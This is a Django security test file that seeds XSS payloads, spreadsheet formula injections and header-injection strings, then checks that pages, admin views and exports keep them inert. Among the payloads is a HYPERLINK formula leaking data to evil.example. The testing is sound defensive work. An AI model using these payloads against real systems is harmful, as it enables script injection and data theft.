"""Hostile input stays inert everywhere it is shown.

One organization is seeded whose every user-controlled text holds markup, attribute breakers,
`javascript:` links, template syntax and spreadsheet formulas: its name, people's names and
(valid, quoted) email addresses, agents' names and prompts, prompt revisions, upstream progress
and error messages, upload file names, session messages, quick replies, API key names, webhook
URLs and descriptions, delivery logs, invitations, the LiveKit settings and audit entries (people,
API keys and staff through the admin).

- Every page and fragment of the organization (found through the URL resolver, like
  tests/test_isolation.py, with the seeded objects' ids), the same pages with hostile query
  strings, every form post echoed back, the exports, every Django admin changelist, change,
  history and delete page, the pages outside the organization (invitation, signup, login,
  account) and the sandbox's room page and face are fetched; no answer may be a server error
  or carry markup or an event handler made of the payload (checked with an HTML parser and plain
  strings); CSV and JSON exports are attachments whose formula-like cells are neutralised.
- In Chromium, with the Content-Security-Policy switched off so escaping alone is tested, the
  main pages, the session console while the avatar speaks a hostile line (its caption renders in
  the sandbox room), the room itself and admin change pages run no payload and open no dialog.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import product
from typing import Any
from urllib.parse import quote

import pytest
from django.contrib import admin
from django.contrib.admin.models import CHANGE, LogEntry
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from activity import services as activity_services
from activity.models import AuditEvent, OutboundDelivery, WebhookEndpoint
from agents.models import Agent, AgentStatusChange, PromptRevision
from organizations import apikeys, connections, invitations
from portal.models import ApiKey, Invitation, Membership, Organization, WebhookDelivery
from portal.tenancy import Role
from sessions import events as session_events
from sessions.models import AgentSession, LiveKitConfig, QuickReply, SessionEvent
from tests.conftest import client_for
from tests.factories import (
    AgentFactory,
    AgentSessionFactory,
    MembershipFactory,
    OrganizationFactory,
    PromptRevisionFactory,
    QuickReplyFactory,
    SessionEventFactory,
    UserFactory,
)
from tests.media import png_bytes

MARK = "window.__xss"
# Breaks out of attributes (both quotes), of a textarea, and injects a script and a handler.
XSS = "\"'></textarea><script>window.__xss=1</script><img src=x onerror=window.__xss=1>"
# For long fields: more contexts (title, style, comments, links, handlers, template syntax).
LONG_TAIL = (
    ' <svg/onload=window.__xss=1> <a href="javascript:window.__xss=1">link</a>'
    " \" autofocus onfocus=\"window.__xss=1\" x=\" ' onmouseover='window.__xss=1' y='"
    ' </title></style><style>*{display:none}</style><iframe srcdoc="<script>window.__xss=1'
    "</script>\"></iframe> {{ 7|add:7 }} {% now 'Y' %} ${7*7} <!-- -->"
)
# Spreadsheet formulas, for the exports.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Email addresses Django accepts (quoted local parts), whose text is markup.
EMAILS = {
    "owner": '"<script>window.__xss=1</script>"@example.com',
    "member": '"<img/src=x/onerror=window.__xss=1>"@example.com',
    "invitee": '"\'><svg/onload=window.__xss=1>"@example.com',
    "formula": "=2+5@example.com",
}


def hostile(label: str) -> str:
    """A payload that also says which field it came from (at most 100 characters)."""
    return f"{label}{XSS}"


def long_hostile(label: str) -> str:
    return f"{label}{XSS}{LONG_TAIL}"


def shown(text: str) -> str:
    """How a text looks in HTML once escaped (Django and Python escape alike)."""
    return html.escape(text)


# --- The inertness check ------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


class _InjectionFinder(HTMLParser):
    """Markup a payload produced: a script holding it, an element carrying one of its event
    handlers or attributes, or a link or frame to a script URL."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._raw: str | None = None

    def _tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            compact = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            handler = name.startswith("on") and MARK in value
            script_url = name in URL_ATTRIBUTES and compact.startswith(BAD_SCHEMES)
            frame_script = name == "srcdoc" and MARK in value
            if MARK in name or handler or script_url or frame_script:
                self.findings.append(f"<{tag} {name}={value!r}>")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)
        if tag in {"script", "style"}:
            self._raw = tag

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw == "script" and MARK in data:
            self.findings.append(f"<script> runs {data.strip()[:60]!r}")
        if self._raw == "style" and "display:none" in data:
            self.findings.append("an injected <style>")


RAW_FRAGMENTS = (
    "<script>window.__xss",
    "<img src=x onerror",
    "<svg/onload",
    "<iframe srcdoc",
    '"javascript:window',
    "<style>*{display:none}",
    '" autofocus onfocus="window',
    "' onmouseover='window",
)


def injections(body: str) -> list[str]:
    """Every way a payload became markup in body (empty when it is inert)."""
    found = [f"raw {fragment!r}" for fragment in RAW_FRAGMENTS if fragment in body]
    finder = _InjectionFinder()
    finder.feed(body)
    finder.close()
    return found + finder.findings


def assert_inert(response: Any, where: str) -> str:
    """The answer is not a server error, and a page (HTML, SVG) carries no injected markup;
    anything else is a download or JSON, which browsers do not render as a page."""
    assert response.status_code < 500, f"{where}: {response.status_code}"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    content_type = response.get("Content-Type", "")
    if content_type.startswith(("image/png", "image/jpeg", "image/webp", "audio/")):
        _assert_media_inert(response, where)  # an uploaded file, never a page
        return ""
    text = body.decode()
    if content_type.startswith(("text/html", "image/svg+xml")):
        found = injections(text)
        assert not found, f"{where} renders the payload as markup: {found}"
    else:
        assert content_type.startswith(("text/csv", "application/json")), where
        assert response["X-Content-Type-Options"] == "nosniff", where
        if content_type.startswith("text/csv"):
            assert response["Content-Disposition"].startswith("attachment;"), where
    return text


def _assert_media_inert(response: Any, where: str) -> None:
    """An uploaded file (or none: hostile agents have no real file) is never a page: its own
    media type, nosniff, and a sandboxing CSP of its own."""
    assert response.status_code in (200, 404), where
    if response.status_code == 200:
        assert response["Content-Type"].startswith(("image/", "audio/")), where
        assert response["X-Content-Type-Options"] == "nosniff", where
        assert "sandbox" in response["Content-Security-Policy"], where


def test_the_check_finds_every_kind_of_injection():
    """The check itself can fail: each way an escaping bug shows up is reported."""
    assert injections(f"<p>{shown(long_hostile('x'))}</p>") == []
    assert injections(f"<input value=\"{shown(XSS)}\"><a title='{shown(XSS)}'>a</a>") == []
    for broken in [
        f"<p>{XSS}</p>",
        f'<input value="{XSS}">',
        f"<textarea>{XSS}</textarea>",
        f'<img alt="{LONG_TAIL}">',
        f"<p title='{LONG_TAIL}'>",
        '<a href=" JavaScript:window.__xss=1">x</a>',
        '<iframe src="javascript:window.__xss=1"></iframe>',
    ]:
        assert injections(broken), broken
    # One by one, without the raw-string shortcut: the parser alone sees each.
    finder = _InjectionFinder()
    finder.feed('<div x="1" onclick="window.__xss=1"></div><script>window.__xss=1</script>')
    assert len(finder.findings) == 2


# --- The hostile organization -------------------------------------------------------------------


@dataclass
class Hostile:
    org: Organization
    owner: Membership
    member: Membership
    staff: Any
    agents: list[Agent]
    ready: Agent
    revisions: list[PromptRevision]
    sessions: list[AgentSession]
    invitation: Invitation
    invitation_token: str
    api_key: ApiKey
    replies: list[QuickReply]
    endpoints: list[WebhookEndpoint]
    deliveries: list[OutboundDelivery]
    ids: dict[str, list[Any]] = field(default_factory=dict)


def seed_hostile(*, ready_agent: Callable[[Organization], Agent] | None = None) -> Hostile:
    """The organization, through the services where they are cheap (so audit entries are the
    real ones) and the ORM elsewhere (upstream answers, webhook logs, staff actions).
    `ready_agent` makes its ready agent (the browser test's exists in the sandbox)."""
    org = OrganizationFactory(name=hostile("org"), slug="hostile")
    owner = MembershipFactory(
        organization=org,
        role=Role.OWNER,
        user=UserFactory(email=EMAILS["owner"], full_name=long_hostile("owner-name")[:150]),
    )
    member = MembershipFactory(
        organization=org,
        role=Role.MEMBER,
        user=UserFactory(email=EMAILS["member"], full_name=hostile("member-name")),
    )
    MembershipFactory(
        organization=org,
        role=Role.VIEWER,
        user=UserFactory(email=EMAILS["formula"], full_name=FORMULAS[0]),
    )
    staff = UserFactory(
        email="staff@example.com", full_name=hostile("staff"), is_staff=True, is_superuser=True
    )
    connections.connection_get(org=org)  # Test mode, as every new organization

    # Agents in every state, with upstream texts (progress, errors, steps) hostile too.
    if ready_agent is not None:
        ready = ready_agent(org)
    else:
        ready = AgentFactory(organization=org, code="A01HOSTILE")
    Agent.objects.filter(pk=ready.pk).update(
        name=hostile("agent-ready"),
        system_prompt=long_hostile("prompt"),
        supported_models=[hostile("model")],
        created_by=owner.user,
    )
    ready.refresh_from_db()
    # Uploads arrive without directories (the multipart parser keeps the base name only).
    ready.image.save(f"{XSS.split('/')[-1]}.png", ContentFile(png_bytes(64)), save=True)
    failed = AgentFactory(
        organization=org,
        name=hostile("agent-failed"),
        system_prompt=long_hostile("failed-prompt"),
        status="failed",
        error_message=long_hostile("agent-error"),
        code="A02HOSTILE",
    )
    generating = AgentFactory(
        organization=org,
        name=FORMULAS[0],
        system_prompt=hostile("flight-prompt"),
        status="generating",
        progress=0.4,
        current_step="<script>x</script>"[:30],
        progress_message=hostile("progress"),
        image_url=f"https://example.com/face.png?{XSS.replace(' ', '')}",
        code="",
    )
    # A file name that bypassed the storage's clean-up (another storage, an old row).
    Agent.objects.filter(pk=generating.pk).update(image=f"orgs/x/{XSS}.png")
    for agent in (ready, failed, generating):
        AgentStatusChange.objects.create(
            agent=agent,
            from_status="processing",
            to_status=agent.status,
            current_step=XSS[:30],
            message=hostile("status-msg"),
            source="poll",
        )
    revisions = [
        PromptRevisionFactory(agent=ready, text=long_hostile("revision"), author=member.user),
        PromptRevisionFactory(
            agent=ready,
            text=hostile("refused-revision"),
            accepted=False,
            error_message=hostile("rev-error"),
            author=owner.user,
        ),
    ]
    activity_services.audit_record(
        org=org, actor=owner, action="agent.prompt_changed", target=ready, details={XSS: XSS}
    )

    # Sessions: a live one with every kind of event, and an ended one.
    live = AgentSessionFactory(agent=ready, started_by=member.user)
    ended = AgentSessionFactory(
        agent=ready, status="ended", end_reason="operator", ended_by=owner.user
    )
    if ready_agent is None:
        # A room link as bitHuman could answer it (the browser test uses a real one).
        AgentSession.objects.filter(pk=live.pk).update(
            room_url=f"https://bithuman.ai/embed/{ready.code}?token={quote(XSS)}"
        )
    # Linked to a runtime session of the account (its id names the live sessions page's row).
    AgentSession.objects.filter(pk=live.pk).update(upstream_session_id=str(uuid.uuid4()))
    live.refresh_from_db()
    for session in (live, ended):
        SessionEventFactory(session=session, text=long_hostile("speak"), author=member.user)
        # Lines of bitHuman's transcript: what a visitor typed reaches every page as text.
        SessionEventFactory(session=session, kind="visitor", text=hostile("visitor"), outcome="")
        SessionEventFactory(session=session, kind="avatar", text=hostile("avatar"), outcome="")
        SessionEventFactory(session=session, kind="context", text=long_hostile("context"))
        SessionEventFactory(session=session, kind="system", text=hostile("system"), outcome="")
        SessionEventFactory(
            session=session,
            text=hostile("failed-speak"),
            outcome="error",
            error_code=XSS[:50],
            error_message=hostile("event-error"),
        )
        for formula in FORMULAS:
            SessionEventFactory(session=session, text=formula, author=owner.user)
        session_events.session_message_record(
            actor=member, session=session, event=session.events.first()
        )
    replies = [
        QuickReplyFactory(organization=org, text=long_hostile("quick-reply")[:500]),
        QuickReplyFactory(organization=org, text=FORMULAS[1]),
    ]
    LiveKitConfig.objects.create(
        organization=org,
        url=hostile("wss://livekit"),
        api_key=hostile("livekit-key"),
        api_secret=XSS,
    )

    # Invitations, API keys and webhooks, through the services (so the audit log has them).
    issued = invitations.invitation_create(
        actor=owner, email=EMAILS["invitee"], role=Role.MEMBER, base_url="http://testserver"
    )
    invitation = issued.invitation
    api_key = apikeys.api_key_create_by(
        actor=owner, name=hostile("api-key"), scopes=["agents:read"], expires_at=None
    ).api_key
    apikeys.api_key_create_by(
        actor=owner, name=FORMULAS[2], scopes=["agents:read"], expires_at=None
    )
    endpoints = [
        WebhookEndpoint.objects.create(
            organization=org,
            url=f"https://hooks.example.com/x?{XSS.replace(' ', '')}",
            description=long_hostile("hook-desc")[:200],
            events=["agent.ready", XSS],
            secret="whsec_test",
        ),
        WebhookEndpoint.objects.create(
            organization=org,
            url="https://hooks.example.com/disabled",
            description=FORMULAS[3],
            events=["agent.failed"],
            secret="whsec_test2",
            enabled=False,
            disabled_reason=hostile("hook-reason"),
        ),
    ]
    for endpoint in endpoints:
        activity_services.audit_record(
            org=org, actor=owner, action="webhook.created", target=endpoint
        )
    deliveries = [
        OutboundDelivery.objects.create(
            organization=org,
            endpoint=endpoints[0],
            event_id="evt_hostile",
            event_type=XSS[:40],
            body=json.dumps({"data": {"name": XSS}}),
            status="failed",
            attempts=3,
            last_status_code=500,
            last_error=hostile("delivery-error"),
            response_excerpt=long_hostile("delivery-response")[:500],
        )
    ]
    WebhookDelivery.objects.create(
        organization=org, delivery_id=XSS[:100], event=XSS[:50], payload={"event": XSS}
    )

    # Audit entries of every actor kind, with hostile labels, keys and values.
    AuditEvent.objects.create(
        organization=org,
        actor_kind="api_key",
        actor_label=hostile("audit-actor"),
        action="agent.created",
        target_type="agent",
        target_id=XSS[:64],
        target_label=FORMULAS[0],
        details={hostile("audit-key"): long_hostile("audit-value"), "list": [XSS]},
    )
    activity_services.audit_record(
        org=org, actor=api_key, action="agent.deleted", target=failed, details={"why": XSS}
    )
    LogEntry.objects.log_actions(
        user_id=staff.pk,
        queryset=[ready],
        action_flag=CHANGE,
        change_message=hostile("staff-change"),
        single_object=True,
    )

    agents = [ready, failed, generating]
    sessions = [live, ended]
    hostile_org = Hostile(
        org=org,
        owner=owner,
        member=member,
        staff=staff,
        agents=agents,
        ready=ready,
        revisions=revisions,
        sessions=sessions,
        invitation=invitation,
        invitation_token=issued.token,
        api_key=api_key,
        replies=replies,
        endpoints=endpoints,
        deliveries=deliveries,
    )
    hostile_org.ids = {
        "member_id": [member.public_id],
        "invitation_id": [invitation.public_id],
        "agent_id": [a.public_id for a in agents],
        "key_id": [api_key.public_id],
        "revision_id": [r.pk for r in revisions],
        "session_id": [s.public_id for s in sessions],
        "reply_id": [r.public_id for r in replies],
        "endpoint_id": [e.public_id for e in endpoints],
        "delivery_id": [d.public_id for d in deliveries],
        "runtime_id": [live.upstream_session_id],
        "kind": ["face", "voice"],
    }
    return hostile_org


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.fixture
def seeded(db, media_root, settings) -> Hostile:
    # bitHuman (live or sandbox) refuses at once: no page waits on the network.
    settings.BITHUMAN_API_URL = "http://127.0.0.1:9"
    settings.SANDBOX_BASE_URL = "http://127.0.0.1:9/sandbox"
    settings.BITHUMAN_MAX_RETRIES = 0
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]  # fast seeding
    return seed_hostile()


# --- Every page of the organization -------------------------------------------------------------

_PARAM = re.compile(r"<(?:(?P<converter>[^>:]+):)?(?P<name>[^>]+)>")


def _routes(patterns: list[Any], prefix: str = "") -> Iterator[tuple[str, str | None]]:
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _routes(p.url_patterns, prefix + str(p.pattern))
        elif isinstance(p, URLPattern):
            yield prefix + str(p.pattern), p.name


def org_paths(h: Hostile) -> list[tuple[str, str]]:
    """(route name, path) of every org-scoped URL, once per combination of seeded ids."""
    paths = []
    for route, name in _routes(get_resolver().url_patterns):
        if not route.startswith("o/<slug:org_slug>/"):
            continue
        names = [m.group("name") for m in _PARAM.finditer(route) if m.group("name") != "org_slug"]
        missing = [n for n in names if n not in h.ids]
        assert not missing, f"{route}: no hostile object for {missing}; add one to seed_hostile"
        for values in product(*(h.ids[n] for n in names)):
            given = dict(zip(names, values, strict=True)) | {"org_slug": h.org.slug}
            path = "/" + _PARAM.sub(lambda m, given=given: str(given[m["name"]]), route)
            paths.append((name or route, path))
    return paths


# Texts each page must show (escaped), so a page that stopped showing them is noticed.
EXPECTED_ON_PAGE = {
    "org_home": [FORMULAS[0]],
    "members": [hostile("member-name"), EMAILS["member"], EMAILS["invitee"]],
    "org_settings": [hostile("api-key"), hostile("livekit-key")],
    "agent_list": [hostile("agent-ready"), hostile("agent-failed")],
    "session_list": [hostile("agent-ready")],
    "audit_log": [hostile("audit-actor"), hostile("audit-key"), hostile("staff-change")],
    "webhook_list": [hostile("hook-reason")],
}


def test_every_page_and_fragment_keeps_hostile_text_inert(seeded):
    h = seeded
    owner = client_for(h.owner)
    checked = 0
    for name, path in org_paths(h):
        for headers in ({}, {"HX-Request": "true"}):
            response = owner.get(path, headers=headers)
            if response.status_code in (302, 405):
                continue  # a redirect or a POST-only route: posted to below
            where = f"GET {path} {headers}"
            if name == "agent_media":
                _assert_media_inert(response, where)
                continue
            text = assert_inert(response, where)
            assert response.status_code == 200, where
            if response["Content-Type"].startswith("text/html"):
                assert response["Content-Type"] == "text/html; charset=utf-8", where
                if "<html" in text:
                    assert shown(hostile("org")) in text, f"{where} does not show the org name"
                for expected in EXPECTED_ON_PAGE.get(name, []) if not headers else []:
                    assert shown(expected) in text, f"{where} does not show {expected!r}"
            checked += 1
    assert checked >= 30

    # Where the long payloads and file names show up in full.
    ready = owner.get(reverse("agent_detail", args=[h.org.slug, h.ready.public_id]))
    text = ready.content.decode()
    assert shown(long_hostile("prompt")) in text  # in the prompt box, as text
    assert shown(long_hostile("revision")) in text  # a line of the revision's diff
    assert "{{ 7|add:7 }}" in text and "{% now &#x27;Y&#x27; %}" in text  # never evaluated
    assert h.ready.image.name.endswith(".png") and "<" not in h.ready.image.name
    console = owner.get(reverse("session_console", args=[h.org.slug, h.sessions[0].public_id]))
    for label in ["speak", "context"]:
        assert shown(long_hostile(label)) in console.content.decode()
    assert shown(hostile("event-error")) in console.content.decode()


def test_pages_outside_the_organization_are_inert(seeded):
    """The invitation page (organization and inviter names), the account pages, and the
    anonymous forms echoing what was typed (signup, login, password reset)."""
    h = seeded
    invitation_page = f"/invitations/{h.invitation_token}/"
    anonymous = Client()
    page = assert_inert(anonymous.get(invitation_page), invitation_page)
    assert shown(hostile("org")) in page
    for path, data in [
        ("/signup/", {"full_name": XSS, "email": EMAILS["owner"], "organization_name": XSS}),
        ("/signup/", {"full_name": XSS, "email": XSS, "password": XSS, "organization_name": "x"}),
        ("/login/", {"username": XSS, "password": XSS}),
        ("/login/", {"username": EMAILS["member"], "password": "wrong"}),
        ("/password-reset/", {"email": EMAILS["owner"]}),
        ("/password-reset/", {"email": XSS}),
        (invitation_page, {"full_name": XSS, "password": "short"}),
    ]:
        assert_inert(anonymous.post(path, data, follow=True), f"POST {path}")
    owner = client_for(h.owner)
    for path in ["/", "/account/", "/account/password/", "/orgs/new/"]:
        assert_inert(owner.get(path, follow=True), path)
    for path, data in [
        ("/account/", {"full_name": long_hostile("renamed")[:150]}),
        ("/orgs/new/", {"name": XSS + "x" * 30}),
        ("/orgs/new/", {"name": hostile("second-org")}),
        ("/account/password/", {"old_password": XSS, "new_password1": XSS}),
    ]:
        assert_inert(owner.post(path, data, follow=True), f"POST {path}")
    assert Organization.objects.filter(name=hostile("second-org")).exists()
    account = owner.get("/account/").content.decode()
    assert shown(long_hostile("renamed")[:150]) in account


def test_a_line_break_in_an_organization_name_is_refused_so_invitations_keep_sending(
    org, owner, client, mailoutbox
):
    """An email subject carries the organization's name: a line break there made every
    invitation of the organization a server error (Python refuses header injection)."""
    broken = "Acme\r\nBcc: everyone@example.com"
    admin_client = client_for(owner)
    renamed = admin_client.post(reverse("org_settings", args=[org.slug]), {"name": broken})
    assert renamed.status_code == 400 and "one line of text" in renamed.content.decode()
    created = admin_client.post(reverse("organization_create"), {"name": broken})
    assert created.status_code == 200 and "one line of text" in created.content.decode()
    signup = client.post(
        reverse("signup"),
        {
            "full_name": "Eve",
            "email": "eve@example.com",
            "password": "a-very-good-password-1",
            "organization_name": broken,
        },
    )
    assert "one line of text" in signup.content.decode()
    assert list(Organization.objects.values_list("name", flat=True)) == ["Acme"]
    invited = admin_client.post(
        reverse("member_invite", args=[org.slug]), {"email": "x@example.com", "role": "member"}
    )
    assert invited.status_code == 302
    assert mailoutbox[-1].subject == "You are invited to Acme on bitHuman Portal"


# Every query parameter the pages read, set to a payload (and to characters databases refuse).
QUERY_KEYS = [
    *["q", "status", "model", "page", "days", "agent", "next"],
    *["actor", "actor_kind", "action", "target", "since", "until"],
]


@pytest.mark.parametrize("value", [XSS, "\x00", "%", "\\", "' OR 1=1 --", "9" * 30])
def test_hostile_query_strings_are_inert_and_never_a_server_error(seeded, value):
    h = seeded
    owner = client_for(h.owner)
    query = dict.fromkeys(QUERY_KEYS, value)
    for _name, path in org_paths(h):
        for headers in ({}, {"HX-Request": "true"}):
            response = owner.get(path, query, headers=headers)
            assert_inert(response, f"GET {path}?{value!r} {headers}")


# Form fields of every org form, all hostile: each page that echoes a refused form back must
# escape it. Run after the GETs because some of these posts act (rename, invite, revoke...).
HOSTILE_FORM = {
    name: XSS
    for name in [
        "name",
        "email",
        "role",
        "confirm",
        "system_prompt",
        "model",
        "aspect_ratio",
        "framing",
        "image_url",
        "audio_url",
        "submission_id",
        "message",
        "context",
        "reply",
        "kind",
        "url",
        "description",
        "events",
        "api_secret",
        "api_key",
        "scopes",
        "expires_at",
        "action",
    ]
}


def test_hostile_form_posts_are_echoed_inert(seeded):
    h = seeded
    owner = client_for(h.owner)
    posted = 0
    # Destructive routes last, so the rest still find their objects.
    paths = sorted(org_paths(h), key=lambda item: "delete" in item[0] or "remove" in item[0])
    for _name, path in paths:
        for headers in ({}, {"HX-Request": "true"}):
            # Followed, so the flash messages of the page redirected to are checked too.
            response = owner.post(path, HOSTILE_FORM, headers=headers, follow=True)
            if response.status_code == 405:
                continue
            assert_inert(response, f"POST {path} {headers}")
            posted += 1
    assert posted >= 20


# --- Exports ------------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _assert_download(response: Any, content_type: str, extension: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == f"{content_type}; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch(
        rf'attachment; filename="[A-Za-z0-9._-]+\.{extension}"', response["Content-Disposition"]
    ), response["Content-Disposition"]


def test_exports_are_attachments_and_neutralise_formulas(seeded):
    h = seeded
    owner = client_for(h.owner)
    audit = owner.get(reverse("audit_export", args=[h.org.slug]))
    _assert_download(audit, "text/csv", "csv")
    rows = _csv_rows(audit)
    exports = {"audit": rows}
    for session in h.sessions:
        exported = owner.get(reverse("session_export_csv", args=[h.org.slug, session.public_id]))
        _assert_download(exported, "text/csv", "csv")
        exports[f"session {session.pk}"] = _csv_rows(exported)

        raw = owner.get(reverse("session_export_json", args=[h.org.slug, session.public_id]))
        _assert_download(raw, "application/json", "json")
        assert b"<" not in raw.content and b">" not in raw.content  # nothing a sniffer reads
        texts = [event["text"] for event in json.loads(raw.content)["events"]]
        assert long_hostile("speak") in texts and FORMULAS[0] in texts  # exact, not mangled

    for name, rows in exports.items():
        cells = [cell for row in rows[1:] for cell in row]
        formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not formulas, f"{name} export has cells a spreadsheet runs: {formulas}"
        # Neutralised, not dropped: the text is still there after the leading quote.
        joined = "\n".join(cells)
        assert XSS in joined
    session_cells = [c for rows in exports.values() for row in rows for c in row]
    for formula in FORMULAS:
        assert "'" + formula in session_cells, formula
    audit_cells = [cell for row in rows for cell in row]
    assert "'" + EMAILS["formula"] in audit_cells or any(
        cell.startswith("'" + FORMULAS[2]) for cell in audit_cells
    )


def test_api_answers_are_json_and_keep_hostile_text_exact(seeded):
    h = seeded
    key = apikeys.api_key_create(
        org=h.org,
        name="reader",
        scopes=["agents:read", "sessions:read", "audit:read"],
        created_by=None,
    ).key
    api = Client(headers={"Authorization": f"Bearer {key}"})
    for path in [
        "/api/v1/agents",
        f"/api/v1/agents/{h.ready.public_id}",
        f"/api/v1/agents/{h.ready.public_id}/history",
        "/api/v1/sessions",
        f"/api/v1/sessions/{h.sessions[0].public_id}/events",
        "/api/v1/audit-events?limit=100",
        "/api/v1/organization",
        f"/api/v1/agents?search={quote(XSS)}",
    ]:
        response = api.get(path)
        assert response.status_code == 200, (path, response.content[:300])
        assert response["Content-Type"].startswith("application/json"), path
        assert response["X-Content-Type-Options"] == "nosniff", path
        json.loads(response.content)
    body = api.get(f"/api/v1/agents/{h.ready.public_id}").json()
    assert body["name"] == hostile("agent-ready")
    assert body["system_prompt"] == long_hostile("prompt")


# --- Django admin -------------------------------------------------------------------------------


def test_admin_changelists_change_history_and_delete_pages_are_inert(seeded):
    h = seeded
    staff = client_for(h.staff)
    checked = 0
    for model, model_admin in admin.site._registry.items():
        opts = model._meta
        base = f"admin:{opts.app_label}_{opts.model_name}"
        changelist = reverse(f"{base}_changelist")
        assert_inert(staff.get(changelist), changelist)
        if model_admin.search_fields:
            assert_inert(staff.get(changelist, {"q": XSS}), f"{changelist}?q=")
        for obj in model._default_manager.all()[:4]:
            for view in ("change", "history", "delete"):
                path = reverse(f"{base}_{view}", args=[obj.pk])
                assert_inert(staff.get(path), path)
                checked += 1
    assert checked >= 40
    # The pages did show the payloads (escaped), in lists, forms, read-only fields and inlines.
    for model, label in [
        (Organization, "org"),
        (Agent, "agent-ready"),
        (AuditEvent, "audit-actor"),
    ]:
        changelist = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        assert shown(hostile(label)) in staff.get(changelist).content.decode(), changelist
    agent_page = staff.get(reverse("admin:agents_agent_change", args=[h.ready.pk]))
    for label in ["revision", "prompt"]:
        assert shown(long_hostile(label)) in agent_page.content.decode()
    session_page = staff.get(
        reverse("admin:agent_sessions_agentsession_change", args=[h.sessions[0].pk])
    )
    assert shown(long_hostile("speak")) in session_page.content.decode()
    history = staff.get(reverse("admin:agents_agent_history", args=[h.ready.pk]))
    assert shown(hostile("staff-change")) in history.content.decode()
    assert SessionEvent.objects.filter(text=long_hostile("speak")).exists()


# --- The sandbox's room page and face -----------------------------------------------------------


def test_sandbox_embed_page_face_and_live_poll_are_inert(db, settings, client):
    """The room page reflects the agent code of its URL and its token; the face shows a name."""
    from sandbox import services as sandbox_services
    from sandbox.models import SandboxAgent

    account, _secret = sandbox_services.sandbox_account_create(label=XSS)
    agent = SandboxAgent.objects.create(
        account=account,
        code="A01SBXHOST",
        name=hostile("sbx"),
        model="expression-1",
        duration_seconds=1,
        time_scale=1,
    )
    for code in [XSS.replace("/", ""), agent.code]:
        for token in ["", XSS, "eyJ.fake"]:
            page = client.get(f"/sandbox/embed/{quote(code, safe='')}", {"token": token})
            text = assert_inert(page, f"embed {code!r} {token!r}")
            assert page["Content-Type"] == "text/html; charset=utf-8"
            if code != agent.code:
                assert shown(code) in text  # "Agent not found for code: ..." escaped
        face = client.get(f"/sandbox/embed/{quote(code, safe='')}/face.svg")
        assert face["Content-Type"] == "image/svg+xml"
        assert_inert(face, f"face {code!r}")
        live = client.post(f"/sandbox/embed/{quote(code, safe='')}/live?token={quote(XSS)}")
        assert live.status_code < 500 and live["Content-Type"] == "application/json"


# --- In a real browser --------------------------------------------------------------------------

os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")

NO_XSS = "() => typeof window.__xss === 'undefined'"


def _login(context: Any, live_server: Any, user: Any) -> None:
    """The browser context gets a session cookie of `user` (no login form to drive)."""
    from django.conf import settings

    client = Client()
    client.force_login(user, backend="portal.backends.EmailBackend")
    context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": live_server.url,
            }
        ]
    )


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_hostile_pages_run_no_script_in_chromium(
    sandbox_api, live_server, settings, media_root, browser
):
    from playwright.sync_api import expect

    from sessions import services as session_services
    from tests.sessions.conftest import upstream_ready_agent

    settings.SANDBOX_EMBED_POLL_MS = 250
    h = seed_hostile(ready_agent=upstream_ready_agent)
    live = session_services.session_start(actor=h.member, agent=h.ready, kind="hosted")

    # Escaping alone must keep the payloads inert: the CSP (a second layer) is switched off.
    context = browser.new_context(bypass_csp=True)
    _login(context, live_server, h.member.user)
    page = context.new_page()
    dialogs: list[str] = []
    errors: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: errors.append(str(error)))
    base = f"{live_server.url}/o/{h.org.slug}"

    def visit(url: str) -> None:
        page.goto(url, wait_until="load")
        page.wait_for_timeout(500)  # fragments loaded by htmx (notices, polls) arrive too
        assert page.evaluate(NO_XSS), f"a payload ran on {url}"

    for path in [
        "/",
        "/agents/",
        f"/agents/{h.ready.public_id}/",
        f"/agents/{h.agents[1].public_id}/",
        f"/agents/{h.agents[2].public_id}/",
        "/sessions/",
        "/members/",
        f"/sessions/{h.sessions[1].public_id}/",
    ]:
        visit(base + path)

    # The console of a live session: the avatar speaks a hostile line in the sandbox room.
    visit(f"{base}/sessions/{live.public_id}/")
    room = page.frame_locator("#room-frame")
    expect(room.locator("#room-status")).to_contain_text("Live · room")
    spoken = hostile("caption") + LONG_TAIL[:120]
    page.get_by_label("Speak").fill(spoken)
